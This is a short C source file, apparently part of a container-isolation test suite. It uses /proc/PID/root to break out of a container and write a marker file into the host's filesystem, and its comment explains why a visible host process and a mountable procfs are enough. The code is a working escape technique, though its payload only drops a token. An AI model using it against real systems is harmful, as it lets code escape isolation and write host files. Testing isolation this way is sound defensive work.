/*
 * /proc/PID/root leads to the root of that process: a link that the kernel itself follows, whatever the path on it says. Process 1 of the
 * host has the host's root, and so has nearly every other. Whoever may mount a procfs, and sees one of them in it, needs no more:
 * proc_pid_root(5).
 */
#include "attack.h"
#include <glob.h>

/* argv: the host's path of a token. */
void proc_root(char **argv)
{
	char path[PATH_MAX];
	glob_t roots;
	snprintf(path, sizeof path, "%s/[0-9]*/root", proc());
	must(glob(path, 0, NULL, &roots) ? -1 : 0, "see a process");
	for (size_t n = 0; n < roots.gl_pathc; n++) {
		snprintf(path, sizeof path, "%s%s", roots.gl_pathv[n], argv[0]);
		const int fd = open(path, O_WRONLY | O_CREAT, 0644);
		if (fd >= 0)
			must(write(fd, "out\n", 4), "write a token");
		if (fd >= 0)
			return;
	}
	must(-1, "write into a directory of the host");
}
